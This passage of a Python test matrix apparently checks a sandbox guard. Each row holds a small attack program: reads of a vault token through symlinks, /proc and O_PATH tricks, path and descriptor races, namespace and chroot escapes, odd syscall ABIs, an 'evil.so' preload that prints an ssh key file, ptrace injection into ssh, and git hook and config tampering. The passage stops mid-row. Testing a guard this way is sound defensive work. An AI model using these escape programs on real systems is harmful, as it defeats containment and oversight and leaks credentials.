"""The matrix: one row an attempt to get around the guard: its name, what it tries, and the program that tries it.

A program gets `kit.py` before it. What counts is the world afterwards: the vault's token in what was printed or left in the workspace, the vault
changed, an outside process reached, or a word of HARM. `alone` rows attack the guard itself and get a session of their own. `open_hole` says why
a row is known to get through; such a row is expected to fail, and the matrix says so when it no longer does.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """One attempt. `native` are the users for whom it succeeds without the guard; empty where the kernel itself may refuse (a newer kernel closed
    it, or it needs what this machine lacks), so that only the guarded half is asserted.
    """

    name: str
    tries: str
    program: str
    native: tuple[str, ...] = ("root", "user")
    open_hole: str | None = None
    hole_for: tuple[str, ...] = ("root", "user")


ROWS: list[Row] = []


def row(name: str, tries: str, program: str, **more: object) -> None:
    ROWS.append(Row(name=name, tries=tries, program=dedent(program), **more))  # type: ignore[arg-type]


# ---- plain spellings, so that the world is known to work
row("open-read", "reads the secret", "show(open(SECRET, 'rb').read())")
row("open-write", "appends to the kept file", "open(KEPT, 'a').write('x')")
row("unlink", "deletes the kept file", "os.unlink(KEPT)")
row("truncate", "truncate(2) by path", "os.truncate(KEPT, 0)")
row("rdonly-trunc", "open(O_RDONLY|O_TRUNC)", "os.open(KEPT, os.O_RDONLY | os.O_TRUNC)")
row("creat", "creat(2)", "r = call(85, KEPT.encode(), 0o644) if X86 else os.open(KEPT, os.O_TRUNC | os.O_WRONLY)")
row(
    "openat2",
    "openat2 of the secret",
    "r = call(437, AT_FDCWD, SECRET.encode(), struct.pack('=QQQ', 0, 0, 0), 24); show(os.read(r, 99))",
)
row(
    "openat2-no-symlinks",
    "openat2 with RESOLVE_NO_SYMLINKS",
    "r = call(437, AT_FDCWD, SECRET.encode(), struct.pack('=QQQ', 0, 0, 4), 24); show(os.read(r, 99))",
)
row(
    "openat2-in-root",
    "openat2 with RESOLVE_IN_ROOT",
    """
    d = os.open(VAULT, os.O_RDONLY)
    show(os.read(call(437, d, b'/secret.txt', struct.pack('=QQQ', 0, 0, 0x10), 24), 99))""",
)
row("mkdir", "makes a folder in the vault", "os.mkdir(VAULT + '/d')")
row("mknod", "makes a FIFO in the vault", "os.mkfifo(VAULT + '/f')")
row("symlink-into", "makes a symlink in the vault", "os.symlink('x', VAULT + '/l')")
row("rename-out", "renames the secret into the workspace", "os.rename(SECRET, WS + '/s')")
row("rename-over", "renames a file over the kept one", "open('n', 'w').write('n'); os.rename('n', KEPT)")
row(
    "exchange",
    "RENAME_EXCHANGE with the secret",
    "open('n', 'w').write('n'); call(number(316, 276), AT_FDCWD, b'n', AT_FDCWD, SECRET.encode(), 2)",
)
row(
    "exchange-folder",
    "exchanges an empty folder with the vault",
    "os.mkdir('e'); call(number(316, 276), AT_FDCWD, b'e', AT_FDCWD, VAULT.encode(), 2); show(open(WS + '/e/secret.txt').read())",
)
row(
    "exchange-file-folder",
    "exchanges a file with the vault",
    "open('e', 'w').close(); call(number(316, 276), AT_FDCWD, b'e', AT_FDCWD, VAULT.encode(), 2); show(open(WS + '/e/secret.txt').read())",
)
row(
    "rename-parent",
    "renames the vault's parent folder",
    "os.rename(os.path.dirname(VAULT), os.path.dirname(VAULT) + '.moved'); os.chdir('..'); print(os.getcwd()); show(open('vault/secret.txt').read())",
)
row("link-secret", "hard link to the secret, then reads it", "os.link(SECRET, 'h'); show(open('h').read())")
row("link-kept", "hard link to the kept file, then writes it", "os.link(KEPT, 'h'); open('h', 'w').write('x')")
row(
    "tmpfile-link",
    "O_TMPFILE, then linkat into the vault",
    """
    f = os.open(WS, 0o20200000 | os.O_RDWR, 0o600); os.write(f, b'x')
    call(number(265, 37), AT_FDCWD, b'/proc/self/fd/%d' % f, AT_FDCWD, VAULT.encode() + b'/t', 0x400)""",
)
row("symlink-read", "reads through a symlink", "os.symlink(SECRET, 'l'); show(open('l').read())")
row("symlink-folder", "deletes through a symlinked folder", "os.symlink(VAULT, 'l'); os.unlink('l/kept.txt')")
row(
    "dirfd",
    "openat by a directory descriptor",
    "d = os.open(VAULT, os.O_RDONLY); show(os.read(os.open('secret.txt', 0, dir_fd=d), 99))",
)
row("cwd", "reads relative to the working folder", "os.chdir(VAULT); show(open('secret.txt').read())")
row("proc-self-root", "reads through /proc/self/root", "show(open('/proc/self/root' + SECRET).read())")
row("proc-self-cwd", "deletes through /proc/self/cwd", "os.chdir(VAULT); os.unlink('/proc/self/cwd/kept.txt')")
row("proc-thread-self", "reads through /proc/thread-self/root", "show(open('/proc/thread-self/root' + SECRET).read())")
row(
    "o-path-reopen",
    "O_PATH, reopened by /proc/self/fd",
    "h = os.open(SECRET, O_PATH); show(open('/proc/self/fd/%d' % h).read())",
)
row(
    "o-path-reopen-write",
    "O_PATH, reopened for writing",
    "h = os.open(KEPT, O_PATH); open('/dev/fd/%d' % h, 'w').write('x')",
)
row(
    "o-path-link",
    "O_PATH, then linkat",
    "h = os.open(SECRET, O_PATH); call(number(265, 37), AT_FDCWD, b'/proc/self/fd/%d' % h, AT_FDCWD, b'h', 0x400); show(open('h').read())",
)
row(
    "o-path-dir",
    "O_PATH of the folder, then openat",
    "d = os.open(VAULT, O_PATH); show(os.read(os.open('secret.txt', 0, dir_fd=d), 99))",
)
row("fchmod", "fchmod through a read-only descriptor", "os.fchmod(os.open(KEPT, 0), 0)")
row(
    "fchown",
    "fchown through a read-only descriptor",
    "os.fchown(os.open(KEPT, 0), 1234 if os.getuid() == 0 else -1, os.getgid()); os.fchmod(os.open(KEPT, 0), 0o600) if os.getuid() else None",
)
row("futimens", "utimensat through a read-only descriptor", "os.utime(os.open(KEPT, 0), (1, 1))")
row("fsetxattr", "fsetxattr through a read-only descriptor", "os.setxattr(os.open(KEPT, 0), 'user.x', b'1')")
row("setxattr", "setxattr by path", "os.setxattr(KEPT, 'user.x', b'1')")
row("chmod", "chmod by path", "os.chmod(KEPT, 0)")
row("fchmodat2", "fchmodat2 with AT_EMPTY_PATH", "call(452, os.open(KEPT, O_PATH), b'', 0, AT_EMPTY_PATH)")
row(
    "chmod-proc-fd",
    "chmod through /proc/self/fd of an O_PATH handle",
    "os.chmod('/proc/self/fd/%d' % os.open(KEPT, O_PATH), 0)",
)
row("utimes", "sets times by path", "os.utime(KEPT, (1, 1))")
row(
    "inode-flags",
    "FS_IOC_SETFLAGS through a read-only descriptor",
    """
    f = os.open(KEPT, 0); flags = array.array('l', [0]); fcntl.ioctl(f, 0x80086601, flags)
    flags[0] |= 0x40; fcntl.ioctl(f, 0x40086602, flags)""",
)
row(
    "setxattrat",
    "setxattrat, whose arguments lie in memory",
    """
    v = ctypes.create_string_buffer(b'1')
    call(463, AT_FDCWD, KEPT.encode(), 0, b'user.x', struct.pack('=QII', ctypes.addressof(v), 1, 0), 16)""",
    native=(),
)
row("chdir-up", "relative path with many ..", "show(open('../' * 40 + SECRET.lstrip('/')).read())")
row("long-path", "a path of 4,095 bytes", "p = '/' * (4095 - len(SECRET)) + SECRET; show(open(p).read())")
row(
    "slow-pointer",
    "path that crosses into an unmapped page",
    """
    m = mmap.mmap(-1, 8192); a = ctypes.addressof(ctypes.c_char.from_buffer(m)); p = SECRET.encode() + b'\\0'
    libc.mprotect(ctypes.c_void_p(a + 4096), 4096, 0); ctypes.memmove(a + 4096 - len(p), p, len(p))
    show(os.read(call(number(257, 56), AT_FDCWD, ctypes.c_void_p(a + 4096 - len(p)), 0, 0), 99))""",
)
row(
    "non-utf8",
    "a symlink with a name that is no UTF-8",
    "os.symlink(SECRET.encode(), b'\\xff\\xfe'); show(open(b'\\xff\\xfe').read())",
)
row("newline-name", "a symlink with a newline in its name", "os.symlink(SECRET, 'a\\nb'); show(open('a\\nb').read())")
row(
    "memfd-secret-path",
    "path string in memfd_secret memory",
    """
    f = call(447, 0)
    if f < 0: show(open(SECRET).read())
    os.ftruncate(f, 4096); m = mmap.mmap(f, 4096); m[:len(SECRET) + 1] = SECRET.encode() + b'\\0'
    r = call(number(257, 56), AT_FDCWD, ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(m))), 0, 0)
    show(os.read(r, 99))""",
)
row(
    "sendfile",
    "copy_file_range and sendfile out of the secret",
    "f = os.open(SECRET, 0); o = os.open('o', os.O_CREAT | os.O_RDWR); os.sendfile(o, f, 0, 99); show(os.pread(o, 99, 0))",
)
row(
    "name-to-handle",
    "open_by_handle_at",
    """
    b = ctypes.create_string_buffer(struct.pack('=Ii', 128, 0) + bytes(128)); m = ctypes.c_int()
    call(number(303, 264), AT_FDCWD, SECRET.encode(), b, ctypes.byref(m), 0)
    show(os.read(call(number(304, 265), os.open(VAULT, 0), b, 0), 99))""",
    native=("root",),
)
row(
    "swap-then-name",
    "opens by handle what another name had",
    "os.mkdir('d'); os.rename('d', 'vault2'); show(open('vault2/../../vault/secret.txt').read())",
)
# ---- races on the path
PATH_RACE = """
    open('ok', 'w').write('fine'); good, bad = (WS + '/ok').encode() + b'\\0', SECRET.encode() + b'\\0'
    def attempt(address):
        r = call(number(257, 56), AT_FDCWD, ctypes.c_void_p(address), 0, 0)
        if r >= 0:
            data = os.read(r, 99); os.close(r)
            if b'TOKEN' in data: show(data); return True
"""
row(
    "race-thread",
    "another thread flips the path string",
    dedent(PATH_RACE)
    + dedent("""
    b = ctypes.create_string_buffer(good, 4096); a = ctypes.addressof(b)
    def flip(): ctypes.memmove(a, bad, len(bad)); ctypes.memmove(a, good, len(good))
    sys.setswitchinterval(1e-5); thread(flip); try_for(1, lambda: attempt(a))"""),
    native=(),
)
row(
    "race-shared-page",
    "a child flips the path in a MAP_SHARED page",
    dedent(PATH_RACE)
    + dedent("""
    m, a = shared_page(); m[:len(good)] = good
    def flip(): m[:len(bad)] = bad; m[:len(good)] = good
    sibling(flip); try_for(1, lambda: attempt(a))"""),
)
row(
    "race-file-page",
    "a child writes the file behind a private page",
    dedent(PATH_RACE)
    + dedent("""
    f = os.open('page', os.O_RDWR | os.O_CREAT); os.write(f, good.ljust(4096, b'\\0'))
    m = mmap.mmap(f, 4096, flags=mmap.MAP_PRIVATE); a = ctypes.addressof(ctypes.c_char.from_buffer(m))
    def flip(): os.pwrite(f, bad, 0); os.pwrite(f, good, 0)
    sibling(flip); try_for(1, lambda: attempt(a))"""),
)
row(
    "race-cwd",
    "a CLONE_FS sibling flips the working folder",
    """
    open('secret.txt', 'w').write('fine')
    if X86 and libc.syscall(56, 0x200 | 17, 0, 0, 0, 0) == 0:
        libc.prctl(1, 9)
        while True: os.chdir(VAULT); os.chdir(WS)
    def attempt():
        f = call(number(257, 56), AT_FDCWD, b'secret.txt', 0, 0)
        if f >= 0:
            d = os.read(f, 99); os.close(f)
            if b'TOKEN' in d: show(d); return True
    try_for(1, attempt)""",
    native=("root", "user"),
)
row(
    "race-dirfd",
    "a CLONE_FILES sibling flips the directory descriptor",
    """
    open('secret.txt', 'w').write('fine'); a, b, d = os.open(WS, O_PATH), os.open(VAULT, O_PATH), 50
    os.dup2(a, d)
    if X86 and libc.syscall(56, 0x400 | 17, 0, 0, 0, 0) == 0:
        libc.prctl(1, 9)
        while True: os.dup2(b, d); os.dup2(a, d)
    def attempt():
        f = call(number(257, 56), d, b'secret.txt', 0, 0)
        if f >= 0:
            data = os.pread(f, 99, 0)
            if b'TOKEN' in data: show(data); return True
    try_for(1, attempt)""",
)
row(
    "race-symlink",
    "a child flips a symlink by rename",
    """
    open('ok', 'w').write('fine'); os.symlink('ok', 'l')
    def flip():
        for t in (SECRET, 'ok'): os.symlink(t, 'n'); os.rename('n', 'l')
    sibling(flip)
    def attempt():
        try: d = open('l').read()
        except OSError: return False
        if 'TOKEN' in d: show(d); return True
    try_for(1, attempt)""",
)
row(
    "ns-bind-read",
    "user namespace, bind mount of the vault, read",
    "unshared(); os.mkdir('m'); mount(VAULT, WS + '/m', None, 4096); show(open('m/secret.txt').read())",
)
row(
    "ns-bind-delete",
    "user namespace, bind mount of the vault, delete",
    "unshared(); os.mkdir('m'); mount(VAULT, WS + '/m', None, 4096); os.unlink('m/kept.txt')",
)
row(
    "ns-overlay",
    "overlayfs with the vault as its lower folder",
    """
    unshared(); [os.mkdir(n) for n in ('u', 'w', 'm')]
    mount('overlay', WS + '/m', 'overlay', 0, 'userxattr,lowerdir=%s,upperdir=u,workdir=w' % VAULT); show(open('m/secret.txt').read())""",
    native=(),
)

row(
    "ns-chroot",
    "chroot into the vault",
    "unshared(); os.chroot(VAULT); os.chdir('/'); show(open('/secret.txt').read())",
)

row(
    "ns-passed-folder",
    "a folder descriptor from a namespace where the workspace's name is the vault",
    """
    os.mkdir('m'); a, b = socket.socketpair()
    if os.fork() == 0:
        unshared(); mount(VAULT, WS + '/m', None, 4096)
        socket.send_fds(b, [b'x'], [os.open(WS + '/m', os.O_RDONLY)]); time.sleep(2); os._exit(0)
    d = socket.recv_fds(a, 1, 1)[1][0]
    show(os.read(os.open('secret.txt', 0, dir_fd=d), 99))""",
)
row(
    "ns-proc-root",
    "/proc/PID/root of a child with other mounts, by O_PATH",
    """
    os.mkdir('m'); r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        unshared(); mount(VAULT, WS + '/m', None, 4096); os.write(w, b'x'); time.sleep(3); os._exit(0)
    os.read(r, 1); d = os.open('/proc/%d/root' % pid, O_PATH)
    show(os.read(os.open((WS + '/m/secret.txt')[1:], 0, dir_fd=d), 99))""",
)
row(
    "ns-passed-delete",
    "deletes by a folder descriptor of another mount namespace",
    """
    os.mkdir('m'); a, b = socket.socketpair()
    if os.fork() == 0:
        unshared(); mount(VAULT, WS + '/m', None, 4096)
        socket.send_fds(b, [b'x'], [os.open(WS + '/m', os.O_RDONLY)]); time.sleep(2); os._exit(0)
    os.unlink('kept.txt', dir_fd=socket.recv_fds(a, 1, 1)[1][0])""",
)
row(
    "ns-sysctl",
    "a procfs of its own, and the kernel's core_pattern in it, opened for writing",
    """
    unshared(0x10000000 | 0x20000 | 0x20000000)
    if os.fork() == 0:
        os.mkdir('p'); mount('proc', WS + '/p', 'proc'); os.open('p/sys/kernel/core_pattern', os.O_WRONLY); harm('opened'); os._exit(0)
    os.wait()""",
    native=("root",),
    hole_for=("root",),
)
row(
    "ns-setns",
    "setns into the first process's mount namespace",
    "f = os.open('/proc/1/ns/mnt', 0); r = libc.setns(f, 0); harm() if r == 0 else None",
    native=(),
)

row(
    "mount-machine",
    "a tmpfs over the vault, as the machine's root",
    "mount('none', VAULT, 'tmpfs'); harm(); libc.umount(VAULT.encode())",
    native=("root",),
)
row(
    "chroot-machine",
    "chroot as the machine's root",
    "os.chroot(VAULT); os.chdir('/'); show(open('/secret.txt').read())",
    native=("root",),
)
# ---- other ABIs and rings
row("io-uring", "io_uring_setup", "r = call(425, 2, bytes(120)); harm(r) if r >= 0 else None", native=())
row(
    "above-table",
    "a call number above the table",
    "r = call(470, 0); harm(r) if r >= 0 or r != -errno.ENOSYS else None",
    native=(),
)
row(
    "x32",
    "openat by its x32 number",
    "r = call(0x40000000 + 257, AT_FDCWD, SECRET.encode(), 0, 0); show(os.read(r, 99)) if r >= 0 else None",
    native=(),
)
row(
    "int80",
    "open by int 0x80",
    r'''
    if not X86: sys.exit()
    p = compiled("""
    #include <sys/mman.h>
    #include <string.h>
    #include <unistd.h>
    int main(int n, char **v) { char *m = mmap(0, 4096, 3, MAP_PRIVATE|MAP_ANONYMOUS|0x40, -1, 0); strcpy(m, v[1]); long r;
      asm volatile("int $0x80" : "=a"(r) : "a"(5L), "b"(m), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11"); if (r < 0) return 1; char b[99]; write(1, b, read(r, b, 99)); }""", 'i80')
    subprocess.run([p, SECRET])''',
    native=(),
)
row(
    "clone3",
    "clone3 with CLONE_NEWNS flags in memory",
    "r = call(435, struct.pack('=11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88); os._exit(0) if r == 0 else harm(r) if r > 0 else None",
)
row("userfaultfd", "userfaultfd(2)", "r = call(number(323, 282), 1); harm(r) if r >= 0 else None")
row(
    "userfaultfd-device",
    "userfaultfd by its device",
    "r = os.open('/dev/userfaultfd', os.O_RDWR); harm(fcntl.ioctl(r, 0xAA00, 0))",
    native=(),
)
row(
    "own-listener",
    "a second listener of its own",
    r"""
    p = (ctypes.c_ubyte * 8)(*b"\x06\0\0\0\0\0\xff\x7f"); f = struct.pack('=HxxxxxxQ', 1, ctypes.addressof(p)); libc.prctl(38, 1, 0, 0, 0)
    r = call(number(317, 277), 1, 8, f); harm(r) if r >= 0 else None""",
)
row(
    "bpf",
    "bpf(2): a map",
    "r = call(number(321, 280), 0, struct.pack('=IIII', 2, 4, 8, 1).ljust(120, b'\\0'), 120); harm(r) if r >= 0 else None",
    native=("root",),
)
row(
    "keyctl",
    "adds a key to the session's keyring",
    "r = call(number(248, 217), b'user', b'k', b'v', 1, -2); harm(r) if r >= 0 else None",
    native=(),
)
row(
    "perf",
    "perf_event_open",
    "r = call(number(298, 241), struct.pack('=IIQ', 1, 112, 1).ljust(112, b'\\0'), 0, -1, -1, 0); harm(r) if r >= 0 else None",
    native=(),
)
# ---- programs
row(
    "memfd-exec",
    "a program in a memfd under another name",
    """
    f = os.memfd_create('ls'); os.write(f, open('/bin/cat', 'rb').read())
    if os.fork() == 0: os.execve('/proc/self/fd/%d' % f, ['ls', '/proc/self/comm'], clean_environ())
    harm() if os.wait()[1] == 0 else None""",
)
row(
    "memfd-execveat",
    "execveat of a memfd with AT_EMPTY_PATH",
    """
    f = os.memfd_create('ls'); os.write(f, open('/bin/true', 'rb').read())
    if os.fork() == 0: os.execve(f, ['ls'], clean_environ())
    harm() if os.wait()[1] == 0 else None""",
)
row("exec-blocked", "runs the forbidden program", "subprocess.run([WS + '/../forbidden'])")
row(
    "exec-blocked-o-path",
    "fexecve of an O_PATH handle of the forbidden program",
    "f = os.open(WS + '/../forbidden', O_PATH); os.fork() or os.execve(f, ['x'], clean_environ()); os.wait()",
)
row(
    "exec-ld-so",
    "the dynamic linker as a launcher",
    """
    import glob
    loader = (glob.glob('/lib64/ld-linux*') + glob.glob('/lib/ld-linux*'))[0]; subprocess.run([loader, '--argv0', 'true', WS + '/../forbidden'])""",
)
row(
    "exec-symlink",
    "the forbidden program by a symlink",
    "os.symlink('../forbidden', 'true'); subprocess.run(['./true'])",
)
row(
    "exec-interpreter",
    "the forbidden program as an interpreter",
    "open('s', 'w').write('#!%s/../forbidden\\n' % WS); os.chmod('s', 0o755); subprocess.run(['./s'])",
)

row(
    "exec-swap-dynamic",
    "a thread flips execve's path to the forbidden program",
    """
    good, bad = b'/bin/true\\0', os.path.normpath(WS + '/../forbidden').encode() + b'\\0'
    m, a = shared_page(); m[:len(good)] = good
    def flip(): m[:len(bad)] = bad; m[:len(good)] = good
    sibling(flip); argv = (ctypes.c_char_p * 2)(b'x', None)
    def attempt():
        if os.fork() == 0: libc.execve(ctypes.c_void_p(a), argv, None); os._exit(1)
        os.wait()
    try_for(2, attempt)""",
)
row(
    "exec-swap-static",
    "the same with a static program that acts in a child of its own",
    """
    p = compiled('#include <unistd.h>\\n#include <sys/wait.h>\\nint main(){ if (fork() == 0) { sleep(0); write(1, "HARM static\\\\n", 12); } else wait(0); }', 'forbidden-static', '-static')
    good, bad = b'/bin/true\\0', p.encode() + b'\\0'
    m, a = shared_page(); m[:len(good)] = good
    def flip(): m[:len(bad)] = bad; m[:len(good)] = good
    sibling(flip); argv = (ctypes.c_char_p * 2)(b'x', None)
    def attempt():
        if os.fork() == 0: libc.execve(ctypes.c_void_p(a), argv, None); os._exit(1)
        os.wait()
    try_for(3, attempt)""",
    open_hole="a static image swapped in after the judgement is looked at only at its first trapped call, and its forked children never",
)
row(
    "exec-swap-argv",
    "argv flipped after the judgement of an fexecve",
    """
    m, a = shared_page(); good, bad = b'fine-word-here\\0', b'forbidden-word\\0'; m[:len(good)] = good
    def flip(): m[:len(bad)] = bad; m[:len(good)] = good
    sibling(flip); f = os.open('/bin/echo', os.O_RDONLY); argv = (ctypes.c_void_p * 3)(ctypes.cast(ctypes.c_char_p(b'echo'), ctypes.c_void_p).value, a, None)
    r, w = os.pipe()
    def attempt():
        if os.fork() == 0: os.dup2(w, 1); libc.fexecve(f, argv, (ctypes.c_char_p * 1)(None)); os._exit(1)
        if os.waitstatus_to_exitcode(os.wait()[1]) == 0 and b'forbidden' in os.read(r, 99): harm('argv'); return True
    try_for(2, attempt)""",
)
row(
    "exec-long-argv",
    "a forbidden word behind 256 kB of arguments",
    """
    p = subprocess.run(['/bin/echo', *['x' * 60000] * 5, 'forbidden-word'], capture_output=True)
    harm() if b'forbidden-word' in p.stdout else None""",
)
row(
    "script-changed",
    "a script rewritten between its judgement and its interpreter's open",
    """
    fine, bad = "#!/usr/bin/python3\\n#%s\\nprint('fine')\\n" % ('x' * 40), "#!/usr/bin/python3\\nprint('HA' 'RM')  # forbidden%s\\n" % '-text'
    open('s.py', 'w').write(fine); os.chmod('s.py', 0o755)
    p = subprocess.Popen(['./s.py']); open('s.py', 'w').write(bad); p.wait()""",
    open_hole="the script's text is not compared with what the interpreter opens",
)
row(
    "inline-bundled",
    "a forbidden text in `python3 -Bc`",
    "subprocess.run(['/usr/bin/python3', '-Bc', 'print(\"HA\" + \"RM\") # forbidden' + '-text'])",
)
# ---- actors
SSH_NEEDED = "os.path.exists('/usr/bin/ssh') or sys.exit('no ssh'); "
row(
    "actor-script-name",
    "an interpreter's script called ssh",
    "open('ssh', 'w').write('print(open(%r).read())' % KEY); subprocess.run(['/usr/bin/python3', WS + '/ssh'], env=clean_environ())",
)
row(
    "actor-shebang",
    "a `#!` script called ssh in the workspace",
    "open('ssh', 'w').write('#!/usr/bin/python3\\nprint(open(%r).read())' % KEY); os.chmod('ssh', 0o755); subprocess.run(['./ssh'], env=clean_environ())",
)
row(
    "actor-copy",
    "a copy of cat called ssh",
    "import shutil; shutil.copy('/bin/cat', 'ssh'); subprocess.run(['./ssh', KEY], env=clean_environ())",
)
row(
    "actor-symlink",
    "a symlink called ssh to cat",
    "os.symlink('/bin/cat', 'ssh'); subprocess.run(['./ssh', KEY], env=clean_environ())",
)
row("actor-argv0", "cat with argv[0] ssh", "subprocess.run(['ssh', KEY], executable='/bin/cat', env=clean_environ())")
row(
    "actor-private-mount",
    "a script called ssh in a tmpfs of its own",
    "unshared(); os.mkdir('t'); mount('none', WS + '/t', 'tmpfs'); open('t/ssh', 'w').write('#!/usr/bin/python3\\nprint(open(%r).read())' % KEY); os.chmod('t/ssh', 0o755); subprocess.run(['t/ssh'], env=clean_environ())",
)
row(
    "actor-code-name",
    "code whose last words are a path to ssh",
    "subprocess.run(['/usr/bin/python3', '-Bc', 'print(open(%r).read()) #/ssh' % KEY], env=clean_environ())",
)
EVIL = r'''
    evil = compiled("""
    #include <fcntl.h>
    #include <stdlib.h>
    #include <unistd.h>
    __attribute__((constructor)) static void go(void) { char b[99]; int f = open(getenv("KEYFILE"), 0); int n = read(f, b, 99); if (n > 0) write(1, b, n); _exit(0); }
    int OSSL_provider_init(void) { return 0; }""", 'evil.so', '-shared', '-fPIC')
'''
row(
    "actor-preload",
    "ssh with LD_PRELOAD",
    dedent(EVIL)
    + SSH_NEEDED
    + "subprocess.run(['/usr/bin/ssh', '-V'], env=clean_environ(LD_PRELOAD=evil, KEYFILE=KEY))",
)
row(
    "actor-library-path",
    "ssh with LD_LIBRARY_PATH",
    dedent(EVIL)
    + SSH_NEEDED
    + "os.rename('evil.so', 'libz.so.1'); subprocess.run(['/usr/bin/ssh', '-V'], env=clean_environ(LD_LIBRARY_PATH=WS, KEYFILE=KEY))",
    native=(),
)

row(
    "actor-openssl-conf",
    "ssh with OPENSSL_CONF that loads a provider",
    dedent(EVIL)
    + SSH_NEEDED
    + dedent("""
    open('o.cnf', 'w').write('openssl_conf = a\\n[a]\\nproviders = b\\n[b]\\nevil = c\\n[c]\\nmodule = %s\\nactivate = 1\\n' % evil)
    subprocess.run(['/usr/bin/ssh', '-o', 'BatchMode=yes', '-V'], env=clean_environ(OPENSSL_CONF=WS + '/o.cnf', KEYFILE=KEY))
    subprocess.run(['/usr/bin/ssh-add', '-l'], env=clean_environ(OPENSSL_CONF=WS + '/o.cnf', KEYFILE=KEY))"""),
    native=(),
)
row(
    "actor-ssh-config",
    "the key as ssh's configuration file, printed in its complaints",
    SSH_NEEDED + "subprocess.run(['/usr/bin/ssh', '-F', KEY, 'x.test'], env=clean_environ(), stderr=1)",
)
row(
    "actor-git-diff",
    "git prints its own credentials file as a diff",
    "subprocess.run(['git', 'diff', '--no-index', '/dev/null', os.environ['HOME'] + '/.netrc'], env=clean_environ())",
)
row(
    "actor-ptrace",
    "code put into ssh by ptrace",
    SSH_NEEDED
    + r'''
p = compiled("""
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
#include <stdio.h>
#include <string.h>
int main(int n, char **v) { pid_t p = fork(); if (!p) { ptrace(PTRACE_TRACEME, 0, 0, 0); char *e[] = {0}; char *a[] = {"ssh", "-V", 0}; execve("/usr/bin/ssh", a, e); _exit(9); }
 int s; struct user_regs_struct r; waitpid(p, &s, 0);
 /* to the first openat: the loader's own, by which the image is known */
 for (int i = 0; i < 200; i++) { ptrace(PTRACE_SYSCALL, p, 0, 0); waitpid(p, &s, 0); if (WIFEXITED(s)) return 1; ptrace(PTRACE_GETREGS, p, 0, &r); if (r.orig_rax == 257 && (long)r.rax >= 0) break; }
 struct user_regs_struct k = r; unsigned long sp = (r.rsp - 4096) & ~15UL, at = sp; char path[256] = {0}; strcpy(path, v[1]);
 for (int i = 0; i < 256; i += 8) ptrace(PTRACE_POKEDATA, p, at + i, *(long *)(path + i));
 k.rip = r.rip - 2; k.rax = 257; k.rdi = -100; k.rsi = at; k.rdx = 0; k.r10 = 0; ptrace(PTRACE_SETREGS, p, 0, &k);
 ptrace(PTRACE_SYSCALL, p, 0, 0); waitpid(p, &s, 0); ptrace(PTRACE_SYSCALL, p, 0, 0); waitpid(p, &s, 0); ptrace(PTRACE_GETREGS, p, 0, &k);
 long f = k.rax; if (f < 0) return 2; k.rip = r.rip - 2; k.rax = 0; k.rdi = f; k.rsi = at; k.rdx = 200; ptrace(PTRACE_SETREGS, p, 0, &k);
 ptrace(PTRACE_SYSCALL, p, 0, 0); waitpid(p, &s, 0); ptrace(PTRACE_SYSCALL, p, 0, 0); waitpid(p, &s, 0); ptrace(PTRACE_GETREGS, p, 0, &k);
 for (int i = 0; i < (long)k.rax; i += 8) { long d = ptrace(PTRACE_PEEKDATA, p, at + i, 0); write(1, &d, 8); }
 kill(p, 9); return 0; }""", 'inject') if X86 else sys.exit()
subprocess.run([p, KEY], env=clean_environ())''',
    native=(),
)
# ---- configuration
row(
    "gitconfig-exchange",
    "a judged config exchanged into place while its writer goes on",
    """
    subprocess.run(['git', 'init', '-q', 'r'], env=clean_environ()); f = open('r/.git/n', 'w'); f.write(open('r/.git/config').read()); f.flush()
    call(number(316, 276), AT_FDCWD, b'r/.git/n', AT_FDCWD, b'r/.git/config', 2); f.write('[core]\\n\\tsshCommand = evil\\n'); f.close()
    harm() if 'sshCommand' in open('r/.git/config').read() else None""",
)
row(
    "gitconfig-writer",
    "a judged config renamed into place while its writer goes on",
    """
    subprocess.run(['git', 'init', '-q', 'r'], env=clean_environ()); f = open('r/.git/config.lock', 'w'); f.write(open('r/.git/config').read()); f.flush()
    os.rename('r/.git/config.lock', 'r/.git/config'); f.write('[core]\\n\\tsshCommand = evil\\n'); f.close()
    harm() if 'sshCommand' in open('r/.git/config').read() else None""",
)
row(
    "gitconfig-link",
    "a hard link to the config, written by the other name",
    """
    subprocess.run(['git', 'init', '-q', 'r'], env=clean_environ()); os.link('r/.git/config', 'r/x'); open('r/x', 'a').write('[core]\\n\\tsshCommand = evil\\n')
    harm() if 'sshCommand' in open('r/.git/config').read() else None""",
)
row(
    "gitconfig-linked-in",
    "a file linked as the config",
    """
    subprocess.run(['git', 'init', '-q', 'r'], env=clean_environ()); open('r/x', 'w').write('[core]\\n\\tsshCommand = evil\\n')
    os.unlink('r/.git/config'); os.link('r/x', 'r/.git/config'); harm() if 'sshCommand' in open('r/.git/config').read() else None""",
)
row(
    "githooks-folder",
    "a folder with hooks renamed to .git",
    """
    subprocess.run(['git', 'init', '-q', '--bare', 'b'], env=clean_environ()); os.makedirs('b/hooks', exist_ok=True); open('b/hooks/pre-commit', 'w').write('x'); os.mkdir('r'); os.rename('b', 'r/.git')
    harm() if os.path.exists('r/.git/hooks/pre-commit') else None""",
)
row(
    "githooks-symlink",
    "hooks as a symlink to an open folder",
    """
    subprocess.run(['git', 'init', '-q', 'r'], env=clean_environ()); os.mkdir('h'); open('h/pre-commit', 'w').write('x'); os.rename('r/.git/hooks', 'r/.git/old'); os.symlink(WS + '/h', 'r/.git/hooks')
    harm() if os.path.exists('r/.git/hooks/pre-commit') else None""",
)
# ---- other processes
row("kill-outside", "kills a process outside the tree", "os.kill(OUTSIDE['victim'], 9)")
row(
    "stop-outside",
    "SIGSTOP by pidfd_send_signal on a /proc folder",
    "f = os.open('/proc/%d' % OUTSIDE['victim'], os.O_RDONLY); r = call(424, f, 9, 0, 0); harm(r) if r == 0 else None",
)
row(
    "setown-outside",
    "F_SETOWN and SIGIO at an outside process",
    """
    a, b = socket.socketpair(); fcntl.fcntl(a, 10, 9); fcntl.fcntl(a, 8, OUTSIDE['victim']); fcntl.fcntl(a, 4, 0o20000 | os.O_NONBLOCK); b.send(b'x')
    time.sleep(.1)""",
)
row(
    "ptrace-outside",
    "PTRACE_SEIZE of an outside process",
    "r = call(number(101, 117), 0x4206, OUTSIDE['victim'], 0, 0); harm(r) if r == 0 else None",
)
row(
    "vm-outside",
